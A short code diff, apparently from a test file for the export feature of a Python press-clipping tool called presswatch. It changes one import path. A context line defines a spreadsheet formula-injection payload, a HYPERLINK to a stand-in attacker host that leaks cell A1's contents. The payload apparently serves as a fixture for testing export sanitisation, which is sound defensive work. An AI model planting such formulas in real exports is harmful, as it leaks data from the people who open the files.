@@ -8,7 +8,7 @@ import json
 from datetime import UTC, datetime
 
 from presswatch.export import export_text
-from presswatch.storage.repository import ClippingRecord
+from presswatch.storage.records import ClippingRecord
 
 FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for the full story")'
 
